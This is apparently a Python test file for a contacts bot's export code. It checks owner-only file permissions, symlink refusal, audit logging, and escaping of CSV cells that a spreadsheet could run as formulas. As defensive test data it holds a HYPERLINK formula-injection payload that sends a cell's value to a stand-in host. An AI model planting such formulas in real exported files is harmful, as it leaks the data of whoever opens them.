"""Exports and charts on disk: owner-only files and folders, the audit row only for a file that was written,
and CSV cells a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlmodel import Session, select

from bot import charts
from bot.app import App
from reminders.clock import FrozenClock
from storage import contacts, models
from storage.models import Contact, ContactPhone
from storage.privacy import export, files, service
from tests.data.helpers import member
from tests.support import T0, Chat


@pytest.fixture(autouse=True)
def loose_umask() -> Iterator[None]:
    """The permissions must not depend on the process umask."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _audit_count(app: App, action: str) -> int:
    with Session(app.engine) as session:
        return len(session.exec(select(models.AuditLog).where(models.AuditLog.action == action)).all())


async def test_a_person_export_is_private_on_disk(app: App, clock: FrozenClock) -> None:
    boss = Chat(app, clock, handle="boss")
    await boss.say("add Maria Silva, maria@acme.com")
    reply = (await boss.say("export Maria Silva"))[0]
    path = Path(reply.entities["path"])
    assert _mode(path) == 0o600 and _mode(path.parent) == 0o700
    assert "maria@acme.com" in path.read_text()
    assert _audit_count(app, "export") == 1


async def test_no_audit_row_when_the_file_cannot_be_written(
    app: App, clock: FrozenClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    boss = Chat(app, clock, handle="boss")
    await boss.say("add Maria Silva, maria@acme.com")

    def full_disk(path: Path) -> object:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files, "open_private", full_disk)
    reply = (await boss.say("export Maria Silva"))[0]
    assert "Exported" not in reply.text
    assert _audit_count(app, "export") == 0


def test_open_private_tightens_an_existing_file_and_refuses_a_symlink(tmp_path: Path) -> None:
    loose = tmp_path / "out.csv"
    loose.write_text("old")
    loose.chmod(0o644)
    with files.open_private(loose) as out:
        out.write("new")
    assert loose.read_text() == "new" and _mode(loose) == 0o600
    trap = tmp_path / "link.csv"
    trap.symlink_to(tmp_path / "elsewhere.csv")
    with pytest.raises(OSError):
        files.open_private(trap)
    assert not (tmp_path / "elsewhere.csv").exists()


def test_charts_go_to_a_private_folder_of_this_process(tmp_path: Path) -> None:
    folder = charts.chart_dir(None)
    assert _mode(folder) == 0o700 and folder.name.startswith("rapport-charts-")
    assert charts.chart_dir(None) == folder, "one folder per process, reused"
    configured = charts.chart_dir(str(tmp_path / "mine" / "charts"))
    assert configured == tmp_path / "mine" / "charts" and _mode(configured) == 0o700
    chart = charts.bars(["a"], [1.0], title="t", unit="EUR", folder=folder)
    assert Path(chart.path).parent == folder and not list(folder.glob("*.tmp.png"))


def test_csv_cells_never_start_a_formula(app: App) -> None:
    boss = member(app, "boss", "admin")
    with app.services.session() as session:
        person = contacts.create(
            session=session, full_name="@Evil Corp", owner_id=boss.id, now=T0, phones=["+351912345678"],
            birthday=(3, 20, None), notes='=HYPERLINK("http://x.example/?"&A1,"click")',
        )  # fmt: skip
        assert person.id is not None
    out = io.StringIO()
    with app.services.session() as session:
        assert service.export_contacts(session=session, staff=boss, out=out, fmt="csv", now=T0) == 1
    [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row, strict=True))
    assert cells["Full name"] == "'@Evil Corp"
    assert cells["Phone"] == "'+351912345678"
    assert cells["Birthday"] == "'--03-20"
    assert cells["Notes"].startswith("'=HYPERLINK")
    assert cells["Stage"] == "prospect" and cells["Id"] == str(person.id)
    assert all(not c.startswith(export.FORMULA_STARTS) for c in row)
    assert export.safe_cell("\tcmd") == "'\tcmd" and export.safe_cell("\rx") == "'\rx" and export.safe_cell(-5) == -5


def test_formula_guard_comes_off_on_import(app: App, tmp_path: Path) -> None:
    from tests.data.helpers import run_import
    from tests.support import make_app, sqlite_url

    boss = member(app, "boss", "admin")
    with app.services.session() as session:
        contacts.create(session=session, full_name="@Evil Corp", owner_id=boss.id, now=T0, phones=["+351912345678"])
    path = tmp_path / "out.csv"
    with app.services.session() as session, open(path, "w", newline="", encoding="utf-8") as out:
        service.export_contacts(session=session, staff=boss, out=out, fmt="csv", now=T0)
    (tmp_path / "other").mkdir()
    other, _ = make_app(sqlite_url(tmp_path / "other"))
    report, _ = run_import(other, path, as_=member(other, "boss", "admin"))
    assert report.created == 1
    with other.services.session() as session:
        [person] = session.exec(select(Contact)).all()
        phones = session.exec(select(ContactPhone.e164)).all()
    assert person.full_name == "@Evil Corp" and phones == ["+351912345678"]
    other.engine.dispose()
